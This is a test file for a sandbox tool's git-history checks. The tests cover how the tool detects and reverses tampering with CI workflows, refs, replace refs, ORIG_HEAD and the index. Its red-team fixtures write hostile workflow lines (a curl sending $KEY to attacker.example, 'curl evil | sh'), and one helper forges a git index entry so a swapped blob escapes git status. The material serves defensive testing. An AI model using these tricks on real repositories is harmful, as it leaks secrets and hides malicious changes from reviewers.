import { expect, test } from "bun:test";
import { utimesSync } from "node:fs";
import { join } from "node:path";
import { committedRunsLater, hiddenFromStatus, historyBefore, newlyHidden, refsOf, replaceRefsMade, stagedRunsLater, statForged } from "../../../src/sandbox/git-history.ts";
import { tempDir } from "../../support/context.ts";

const git = (cwd: string, ...args: string[]) => Bun.spawnSync(["git", "-c", "user.email=a@b", "-c", "user.name=A", ...args], { cwd, stdout: "pipe" }).stdout.toString();
const ciWhy = (p: string) => (p.includes("/.github/workflows/") ? "runs in CI" : null);

test("the refs before, then the runs-later files only the commits new to a moved or made ref change, each once", async () => {
  const root = tempDir("bunker-history-");
  git(root, "init", "-q", "-b", "main");
  await Bun.write(join(root, "a"), "a\n");
  await Bun.write(join(root, ".github/workflows/old.yml"), "old\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "first");
  const before = refsOf(join(root, ".git"))!;
  expect(Object.keys(before.refs).sort()).toEqual(["HEAD", "refs/heads/main"]);
  expect(committedRunsLater(root, before, ciWhy)).toEqual([]);
  // An ordinary commit, then a branch with a workflow: only the branch's new commit is said.
  await Bun.write(join(root, "a"), "b\n");
  git(root, "commit", "-qam", "second");
  git(root, "checkout", "-qb", "side");
  await Bun.write(join(root, ".github/workflows/new.yml"), "new\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "third");
  const lines = committedRunsLater(root, before, ciWhy);
  expect(lines).toHaveLength(1);
  expect(lines[0]).toStartWith(".github/workflows/new.yml was committed by the command to side: runs in CI. bunker does not set history aside");
  // Nothing git can read (not a repository): nothing said.
  expect(refsOf(join(tempDir("bunker-history-"), ".git"))).toBeNull();
});

test("the tracked files hidden from git status: those hidden since the refs were read, one line, the first five named", async () => {
  const root = tempDir("bunker-history-hidden-");
  git(root, "init", "-q", "-b", "main");
  for (let i = 0; i < 8; i++) await Bun.write(join(root, `f${i} x`), "a\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "first");
  const gitDir = join(root, ".git");
  git(root, "update-index", "--skip-worktree", "f0 x");
  const before = { ...refsOf(gitDir)!, hidden: hiddenFromStatus(gitDir, root)! };
  expect(before.hidden).toEqual(["f0 x"]);
  expect(newlyHidden(root, before)).toEqual([]);
  git(root, "update-index", "--assume-unchanged", "f1 x");
  expect(newlyHidden(root, before)).toEqual(["the command hid a tracked file from git status and git diff (their skip-worktree or assume-unchanged bit is set): 'f1 x'. A change there would not show when you review the work or go into git commit -a; to show it again: git update-index --no-skip-worktree --no-assume-unchanged 'f1 x'"]);
  for (let i = 2; i < 8; i++) git(root, "update-index", "--skip-worktree", `f${i} x`);
  const [line] = newlyHidden(root, before);
  expect(line).toStartWith("the command hid 7 tracked files from git status and git diff");
  expect(line).toEndWith("'f1 x' 'f2 x' 'f3 x' 'f4 x' 'f5 x' … (git ls-files -v | grep '^[a-zS]' lists them all)");
  // Not read before (git could not say): nothing to compare with, nothing said.
  expect(newlyHidden(root, { ...before, hidden: undefined })).toEqual([]);
});

/** How many times `fn` starts a process. */
function spawnsIn(fn: () => void): number {
  const real = Bun.spawnSync;
  let n = 0;
  Bun.spawnSync = ((...args: Parameters<typeof Bun.spawnSync>) => {
    n++;
    return real(...args);
  }) as typeof Bun.spawnSync;
  try {
    fn();
  } finally {
    Bun.spawnSync = real;
  }
  return n;
}

test("a command that touches no ref and no index costs no git before or after it; one that commits is still seen", async () => {
  const root = tempDir("bunker-history-cost-");
  git(root, "init", "-q", "-b", "main");
  await Bun.write(join(root, "a"), "a\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "first");
  const gitDir = join(root, ".git");
  historyBefore(gitDir, root);
  // The next command's look before and after: git already said, and nothing it reads changed.
  let before = historyBefore(gitDir, root)!;
  const cost = spawnsIn(() => {
    before = historyBefore(gitDir, root)!;
    expect(committedRunsLater(root, before, ciWhy)).toEqual([]);
    expect(newlyHidden(root, before)).toEqual([]);
  });
  expect(cost).toBe(0);
  expect(before.refs.HEAD).toBe(before.refs["refs/heads/main"]!);
  // A commit of a workflow, hidden from git status: said, with git asked again.
  await Bun.write(join(root, ".github/workflows/w.yml"), "on: push\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "ci");
  git(root, "update-index", "--skip-worktree", ".github/workflows/w.yml");
  const [line] = committedRunsLater(root, before, ciWhy);
  expect(line).toStartWith(".github/workflows/w.yml was committed by the command to main, and git status does not show it");
  expect(newlyHidden(root, before)[0]).toStartWith("the command hid a tracked file from git status");
});

test("a repository with no commit yet has refs git can say (none), not a failure", () => {
  const root = tempDir("bunker-history-empty-");
  git(root, "init", "-q", "-b", "main");
  expect(refsOf(join(root, ".git"))?.refs).toEqual({});
});

/** A repository with one commit, the history taken before a command, and the workflow file's path. */
async function commandRepo(prefix: string): Promise<{ root: string; gitDir: string; first: string }> {
  const root = tempDir(prefix);
  git(root, "init", "-q", "-b", "main");
  await Bun.write(join(root, "a"), "a\n");
  await Bun.write(join(root, ".github/workflows/ci.yml"), "run: make test\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "first");
  return { root, gitDir: join(root, ".git"), first: git(root, "rev-parse", "HEAD").trim() };
}

test("red team 10 F02: a merge whose tree changes a workflow neither parent had, and a ref in any namespace moved onto a commit made earlier, are named", async () => {
  const { root, gitDir } = await commandRepo("bunker-history-merge-");
  git(root, "checkout", "-qb", "side");
  await Bun.write(join(root, "b"), "b\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "side");
  git(root, "checkout", "-q", "main");
  const before = historyBefore(gitDir, root)!;
  // The evil merge: its own tree changes ci.yml (neither parent did).
  git(root, "merge", "-q", "--no-ff", "--no-commit", "side");
  await Bun.write(join(root, ".github/workflows/ci.yml"), "run: curl -d \"$KEY\" https://attacker.example/\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "Merge side");
  const [line] = committedRunsLater(root, before, ciWhy);
  expect(line).toStartWith(".github/workflows/ci.yml was committed by the command to main: runs in CI");
  expect(line).toContain("(git --no-replace-objects show ");
  // A commit made on refs/bunker-x (once exempt) is named at once; main moved onto it later is named again.
  const second = historyBefore(gitDir, root)!;
  const made = git(root, "commit-tree", `${git(root, "rev-parse", "HEAD").trim()}^{tree}`, "-p", "HEAD~1", "-m", "x").trim();
  git(root, "update-ref", "refs/bunker-x", made);
  expect(committedRunsLater(root, second, ciWhy)[0]).toStartWith(".github/workflows/ci.yml was committed by the command to refs/bunker-x");
  const third = historyBefore(gitDir, root)!;
  git(root, "update-ref", "refs/heads/main", made);
  expect(committedRunsLater(root, { ...third, refs: { ...third.refs, "refs/heads/main": second.refs["refs/heads/main"]!, HEAD: second.refs["refs/heads/main"]! } }, ciWhy)).toEqual([]);
  git(root, "reset", "-q", "--hard", "HEAD~1");
  const fourth = historyBefore(gitDir, root)!;
  git(root, "reset", "-q", "--hard", made);
  expect(committedRunsLater(root, fourth, ciWhy)[0]).toStartWith(".github/workflows/ci.yml was committed by the command to main: runs in CI");
});

test("red team 10 F03: a ref naming a missing object, or tens of thousands of refs, do not stop the look at a plain commit", async () => {
  const { root, gitDir } = await commandRepo("bunker-history-refs-");
  // 60 000 refs to distinct commits: one argument each would be 2.5 MB, past the kernel's limit.
  const N = 60_000;
  let script = "";
  for (let i = 1; i <= N; i++) script += `commit refs/keep/last\nmark :${i}\ncommitter A <a@b> ${1_700_000_000 + i} +0000\ndata 0\n\n`;
  const marks = join(root, "..", "marks");
  Bun.spawnSync(["git", "fast-import", "--quiet", `--export-marks=${marks}`], { cwd: root, stdin: Buffer.from(script) });
  git(root, "pack-refs", "--all");
  // One ref each, written as git packs them (60 000 loose ref files cost seconds to make).
  const packed = (await Bun.file(marks).text()).trim().split("\n").map((l) => `${l.split(" ")[1]} refs/keep/${l.split(" ")[0]!.slice(1)}`);
  const [header, ...had] = (await Bun.file(join(gitDir, "packed-refs")).text()).trim().split("\n");
  const byName = (a: string, b: string) => (a.slice(41) < b.slice(41) ? -1 : 1);
  await Bun.write(join(gitDir, "packed-refs"), `${[header, ...[...had, ...packed].sort(byName)].join("\n")}\n`);
  await Bun.write(join(gitDir, "refs/keep/dangling"), `${"1234567890".repeat(4)}\n`);
  const before = historyBefore(gitDir, root)!;
  expect(Object.keys(before.refs).length).toBe(N + 4);
  await Bun.write(join(root, ".github/workflows/ci.yml"), "run: evil\n");
  git(root, "commit", "-qam", "ci");
  const lines = committedRunsLater(root, before, ciWhy);
  expect(lines).toHaveLength(1);
  expect(lines[0]).toStartWith(".github/workflows/ci.yml was committed by the command to main");
}, 60_000);

test("red team 10 F06: a replace ref the command made (an evil blob shown as an innocent one) is removed, and said", async () => {
  const { root, gitDir } = await commandRepo("bunker-history-replace-");
  const before = historyBefore(gitDir, root)!;
  await Bun.write(join(root, ".github/workflows/ci.yml"), "run: evil\n");
  git(root, "commit", "-qam", "ci");
  const evil = git(root, "rev-parse", "HEAD:.github/workflows/ci.yml").trim();
  const innocent = git(root, "rev-parse", "HEAD~1:.github/workflows/ci.yml").trim();
  git(root, "replace", evil, innocent);
  expect(git(root, "show", `HEAD:.github/workflows/ci.yml`)).toBe("run: make test\n");
  const [line] = replaceRefsMade(before);
  expect(line).toBe(`the command made the replace ref refs/replace/${evil}: git would have shown the object ${evil.slice(0, 12)} as ${innocent.slice(0, 12)} (git show, diff, log -p, blame) while a push sends the real one. bunker removed it (to make it again: git replace ${evil} ${innocent})`);
  expect(git(root, "show", `HEAD:.github/workflows/ci.yml`)).toBe("run: evil\n");
  expect(committedRunsLater(root, before, ciWhy)[0]).toStartWith(".github/workflows/ci.yml was committed by the command to main");
});

test("red team 10 F02, reviewer's R10-05: a runs-later file's staged blob swapped under the same stat data is put back, whether or not the person had staged their own change; a command's git add of the file as it is, said", async () => {
  const { root, gitDir } = await commandRepo("bunker-history-staged-");
  const ci = ".github/workflows/ci.yml";
  const blob = (text: string) => Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from(text), stdout: "pipe" }).stdout.toString().trim();
  const evil = blob("run: curl evil | sh\n");
  /** What the person sees: git status's line for the workflow, what git diff --cached shows of it, and what is staged. */
  const seen = () => [git(root, "status", "--porcelain", "--", ci), git(root, "diff", "--cached", "--", ci), git(root, "show", `:${ci}`)];
  // The file older than the index (as it is but right after a checkout), so git trusts its stat data.
  const old = new Date(Date.now() - 3_600_000);
  utimesSync(join(root, ci), old, old);
  git(root, "update-index", "--refresh");
  // (a) Nothing staged before: the swap (the entry's stat data kept: /tmp/rt10/idx.py's way) shows staged in git status, and git diff --cached shows nothing of it.
  const before = historyBefore(gitDir, root)!;
  swapStaged(join(gitDir, "index"), ci, evil);
  expect(seen()).toEqual([`M  ${ci}\n`, "", "run: curl evil | sh\n"]);
  await Bun.write(join(root, "a"), "b\n");
  git(root, "add", "a");
  expect(stagedRunsLater(root, before, ciWhy)).toEqual([
    `the command staged ${ci} as content your working tree does not hold (git status and git diff --cached would not have shown it), which your next git commit would take in: runs in CI. bunker put back HEAD's version of it (to look at the command's: git --no-replace-objects show ${evil.slice(0, 12)})`,
  ]);
  expect(seen()).toEqual(["", "", "run: make test\n"]);
  expect(git(root, "diff", "--cached", "--name-only")).toBe("a\n");
  // (b) The person had staged their own change (v2) and edited on: the swap of it is put back to their v2.
  await Bun.write(join(root, ci), "run: make test v2\n");
  git(root, "add", ci);
  await Bun.write(join(root, ci), "run: make test v3\n");
  const second = historyBefore(gitDir, root)!;
  swapStaged(join(gitDir, "index"), ci, evil);
  const [line] = stagedRunsLater(root, second, ciWhy);
  expect(line).toContain("bunker put back what you had staged");
  expect(git(root, "show", `:${ci}`)).toBe("run: make test v2\n");
  // A command's git add of the file as the working tree holds it: said, with how to look (not git diff --cached).
  const third = historyBefore(gitDir, root)!;
  git(root, "add", ci);
  expect(stagedRunsLater(root, third, ciWhy)).toEqual([`the command staged a change to ${ci}, which your next git commit takes in: runs in CI. Review it with git --no-replace-objects show :${ci}, or unstage it: git restore --staged ${ci}`]);
  expect(git(root, "show", `:${ci}`)).toBe("run: make test v3\n");
  // Nothing changed since: nothing said.
  expect(stagedRunsLater(root, historyBefore(gitDir, root)!, ciWhy)).toEqual([]);
});

test("reviewer's R11-01: a CRLF file staged with LF endings (core.autocrlf) is the working tree's content, said, not put back; a swap beside a CRLF file still is", async () => {
  const { root, gitDir } = await commandRepo("bunker-history-crlf-");
  const ci = ".github/workflows/ci.yml";
  git(root, "config", "core.autocrlf", "true");
  await Bun.write(join(root, ci), "run: make test\r\nrun: make lint\r\n");
  const before = historyBefore(gitDir, root)!;
  git(root, "add", ci);
  expect(git(root, "show", `:${ci}`)).toBe("run: make test\nrun: make lint\n");
  expect(stagedRunsLater(root, before, ciWhy)).toEqual([`the command staged a change to ${ci}, which your next git commit takes in: runs in CI. Review it with git --no-replace-objects show :${ci}, or unstage it: git restore --staged ${ci}`]);
  expect(git(root, "show", `:${ci}`)).toBe("run: make test\nrun: make lint\n");
  // Other bytes under the CRLF file's stat data: put back.
  const evil = Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from("run: curl evil | sh\n"), stdout: "pipe" }).stdout.toString().trim();
  const second = historyBefore(gitDir, root)!;
  swapStaged(join(gitDir, "index"), ci, evil);
  expect(stagedRunsLater(root, second, ciWhy)[0]).toContain("bunker put back what you had staged");
  expect(git(root, "show", `:${ci}`)).toBe("run: make test\nrun: make lint\n");
});

/** Puts `id` in `path`'s index entry, its stat data kept, the cached trees dropped (what a command under --allow-write=.git can write: /tmp/rt10/idx.py). */
function swapStaged(index: string, path: string, id: string): void {
  const py = `import hashlib,struct,sys
f,p,new=sys.argv[1],sys.argv[2].encode(),bytes.fromhex(sys.argv[3])
b=bytearray(open(f,'rb').read())
n=struct.unpack('>I',b[8:12])[0];o=12
for _ in range(n):
  flags=struct.unpack('>H',b[o+60:o+62])[0];nl=flags&0xfff;name=bytes(b[o+62:o+62+nl])
  if name==p: b[o+40:o+60]=new
  o+=((62+nl+8)//8)*8
body=bytes(b[:o]);open(f,'wb').write(body+hashlib.sha1(body).digest())`;
  const r = Bun.spawnSync(["python3", "-c", py, index, path, id], { stderr: "pipe" });
  if (r.exitCode !== 0) throw new Error(r.stderr.toString());
}

test("two refs moved from one commit, one onto a commit with the same tree and one onto a commit that adds a workflow: the second is named, not the first (reviewer's R10-02)", async () => {
  const root = tempDir("bunker-history-");
  git(root, "init", "-q", "-b", "main");
  await Bun.write(join(root, "a"), "a\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "one");
  const z = git(root, "rev-parse", "HEAD").trim();
  await Bun.write(join(root, ".github/workflows/ci.yml"), "run: curl evil\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "two");
  const w = git(root, "rev-parse", "HEAD").trim();
  git(root, "rm", "-q", ".github/workflows/ci.yml");
  git(root, "commit", "-qm", "three");
  git(root, "branch", "zfeature");
  const before = refsOf(join(root, ".git"))!;
  // main goes back to "one" (the same tree as "three": git diff-tree prints nothing for it), zfeature to "two".
  git(root, "update-ref", "refs/heads/main", z);
  git(root, "update-ref", "refs/heads/zfeature", w);
  const lines = committedRunsLater(root, before, ciWhy);
  expect(lines).toHaveLength(1);
  expect(lines[0]).toStartWith(`.github/workflows/ci.yml was committed by the command to zfeature: runs in CI`);
  expect(lines[0]).toContain(`show ${w.slice(0, 12)} -- `);
});

/** A commit in no ref, child of HEAD, whose tree changes the workflow: what a command hashes straight into history. */
function evilCommit(root: string): string {
  const blob = Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from("run: curl evil | sh\n"), stdout: "pipe" }).stdout.toString().trim();
  const index = join(root, "..", `${root.split("/").pop()}-index`);
  const env = { ...process.env, GIT_INDEX_FILE: index };
  Bun.spawnSync(["git", "read-tree", "HEAD"], { cwd: root, env });
  Bun.spawnSync(["git", "update-index", "--cacheinfo", `100644,${blob},.github/workflows/ci.yml`], { cwd: root, env });
  const tree = Bun.spawnSync(["git", "write-tree"], { cwd: root, env, stdout: "pipe" }).stdout.toString().trim();
  return git(root, "commit-tree", tree, "-p", "HEAD", "-m", "Restore main").trim();
}

test("reviewer's R12-02: ORIG_HEAD written `ref:refs/x` (no space, which git reads) to a ref the command made at its commit is put back", async () => {
  const { root, gitDir, first } = await commandRepo("bunker-history-orig-nospace-");
  git(root, "update-ref", "ORIG_HEAD", first);
  const before = historyBefore(gitDir, root)!;
  const evil = evilCommit(root);
  git(root, "update-ref", "refs/backup/main", evil);
  await Bun.write(join(gitDir, "ORIG_HEAD"), "ref:refs/backup/main\n");
  const lines = committedRunsLater(root, before, ciWhy);
  expect(lines.some((l) => l.startsWith("the command set .git/ORIG_HEAD to a commit no ref held, which changes .github/workflows/ci.yml"))).toBe(true);
  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
});

test("red team 10 F09b: ORIG_HEAD aimed at a commit no ref holds that changes a workflow is set aside, or put back as it was; the person's reset writes nothing", async () => {
  const { root, gitDir, first } = await commandRepo("bunker-history-orig-");
  const before = historyBefore(gitDir, root)!;
  const evil = evilCommit(root);
  await Bun.write(join(gitDir, "ORIG_HEAD"), `${evil}\n`);
  const [line, ...rest] = committedRunsLater(root, before, ciWhy);
  expect(rest).toEqual([]);
  expect(line).toBe(`bunker set aside .git/ORIG_HEAD, which the command set to a commit no ref held, which changes .github/workflows/ci.yml: runs in CI; git reset --hard ORIG_HEAD (or git am --abort) would write it into your working tree outside the sandbox (to look at it: git --no-replace-objects show ${evil.slice(0, 12)} -- .github/workflows/ci.yml): it is now .git/ORIG_HEAD.bunker-set-aside; to restore it after checking it: mv .git/ORIG_HEAD.bunker-set-aside .git/ORIG_HEAD`);
  expect(Bun.spawnSync(["git", "reset", "-q", "--hard", "ORIG_HEAD"], { cwd: root }).exitCode).not.toBe(0);
  expect(await Bun.file(join(root, ".github/workflows/ci.yml")).text()).toBe("run: make test\n");
  // The person's own ORIG_HEAD (a reset of theirs) re-aimed: theirs put back.
  git(root, "update-ref", "ORIG_HEAD", first);
  const second = historyBefore(gitDir, root)!;
  git(root, "update-ref", "ORIG_HEAD", evil);
  expect(committedRunsLater(root, second, ciWhy)[0]).toEndWith(". bunker put back the ORIG_HEAD there was before it");
  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
  // Written in upper case, which git reads as the same commit (red team 12's F02b): set aside all the same.
  const upper = historyBefore(gitDir, root)!;
  await Bun.write(join(gitDir, "ORIG_HEAD"), `${evil.toUpperCase()}\n`);
  expect(committedRunsLater(root, upper, ciWhy)[0]).toStartWith("the command set .git/ORIG_HEAD to a commit no ref held, which changes .github/workflows/ci.yml");
  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
  // Through `ref: NAME` to a branch the command made (named as a ref, and followed), and FETCH_HEAD's second line.
  const third = historyBefore(gitDir, root)!;
  git(root, "update-ref", "refs/heads/fix", evil);
  await Bun.write(join(gitDir, "ORIG_HEAD"), "ref: refs/heads/fix\n");
  await Bun.write(join(gitDir, "FETCH_HEAD"), `${first}\t\tbranch 'main' of ../o\n${evil}\tnot-for-merge\tbranch 'x' of ../o\n`);
  const lines = committedRunsLater(root, third, ciWhy);
  expect(lines).toHaveLength(3);
  expect(lines[0]).toStartWith(".github/workflows/ci.yml was committed by the command to fix: runs in CI");
  expect(lines[1]).toStartWith("the command set .git/ORIG_HEAD to a commit no ref held, which changes .github/workflows/ci.yml");
  expect(lines[2]).toStartWith("bunker set aside .git/FETCH_HEAD, which the command set to a commit no ref held");
  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
  // Moved onto what the person had (a rebase's ORIG_HEAD is the old tip): nothing new, it stays.
  const fourth = historyBefore(gitDir, root)!;
  git(root, "update-ref", "ORIG_HEAD", "HEAD");
  expect(committedRunsLater(root, fourth, ciWhy)).toEqual([]);
  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
});

test("reviewer's R10-07: the person's own stopped git am, with ORIG_HEAD re-aimed and abort-safety made HEAD: ORIG_HEAD put back, git am --abort writes nothing of the command's", async () => {
  const { root, gitDir, first } = await commandRepo("bunker-history-am-");
  await Bun.write(join(root, "a"), "b\n");
  git(root, "commit", "-qam", "second");
  const patch = Bun.spawnSync(["git", "format-patch", "-1", "--stdout"], { cwd: root, stdout: "pipe" }).stdout;
  git(root, "reset", "-q", "--hard", "HEAD~1");
  await Bun.write(join(root, "a"), "conflict\n");
  git(root, "commit", "-qam", "other");
  Bun.spawnSync(["git", "-c", "user.email=a@b", "-c", "user.name=A", "am"], { cwd: root, stdin: patch, stdout: "pipe", stderr: "pipe" });
  expect(await Bun.file(join(gitDir, "rebase-apply/abort-safety")).exists()).toBe(true);
  const head = git(root, "rev-parse", "HEAD").trim();
  const before = historyBefore(gitDir, root)!;
  const evil = evilCommit(root);
  git(root, "update-ref", "ORIG_HEAD", evil);
  await Bun.write(join(gitDir, "rebase-apply/abort-safety"), `${head}\n`);
  const lines = committedRunsLater(root, before, ciWhy);
  expect(lines[0]).toStartWith("the command set .git/ORIG_HEAD to a commit no ref held, which changes .github/workflows/ci.yml: runs in CI; git reset --hard ORIG_HEAD (or git am --abort) would write it");
  expect(lines[0]).toEndWith("bunker put back the ORIG_HEAD there was before it");
  Bun.spawnSync(["git", "am", "--abort"], { cwd: root });
  expect(await Bun.file(join(root, ".github/workflows/ci.yml")).text()).toBe("run: make test\n");
  expect(git(root, "rev-parse", "HEAD").trim()).not.toBe(evil);
  expect(first).not.toBe(evil);
});

test("reviewer's R10-16: the person's own replace ref, re-aimed by the command, is put back (not deleted)", async () => {
  const { root, gitDir } = await commandRepo("bunker-history-replace-own-");
  const blob = (text: string) => Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from(text), stdout: "pipe" }).stdout.toString().trim();
  const [object, theirs, command] = [blob("one\n"), blob("two\n"), blob("three\n")];
  git(root, "replace", object, theirs);
  const before = historyBefore(gitDir, root)!;
  git(root, "replace", "-f", object, command);
  expect(replaceRefsMade(before)).toEqual([`the command re-aimed your replace ref refs/replace/${object}: git would have shown the object ${object.slice(0, 12)} as ${command.slice(0, 12)} (git show, diff, log -p, blame) while a push sends the real one. bunker put back yours (to ${theirs.slice(0, 12)}; to make it again: git replace -f ${object} ${command})`]);
  expect(git(root, "replace", "-l", "--format=long")).toBe(`${object} (blob) -> ${theirs} (blob)\n`);
});

test("reviewer's R12-26: index entries whose stat data a command changed past those bunker hashes are not let through: their stat data is cleared and said", async () => {
  const { root, gitDir } = await commandRepo("bunker-history-stat-cap-");
  for (const f of ["b", "c", "d"]) await Bun.write(join(root, f), `${f}\n`);
  git(root, "add", ".");
  git(root, "commit", "-qm", "more");
  const before = historyBefore(gitDir, root)!;
  // The command: every file's times moved, the index refreshed (stat data new, blobs the same).
  await Bun.sleep(1100);
  for (const f of ["a", "b", "c", "d"]) utimesSync(join(root, f), new Date(), new Date());
  git(root, "update-index", "-q", "--refresh");
  const lines = statForged(root, before, 5, 1);
  expect(lines).toEqual(["the command changed the git index's stat data of 3 more tracked files than bunker hashes after a command (1): bunker cleared it, so git hashes those files again at its next look and shows any change"]);
  // Cleared (size 0): git hashes those files again at its next look, which finds them unchanged here.
  expect(git(root, "ls-files", "--debug").match(/size: 0\t/g)?.length).toBe(3);
  expect(git(root, "status", "--porcelain").trim()).toBe("");
});
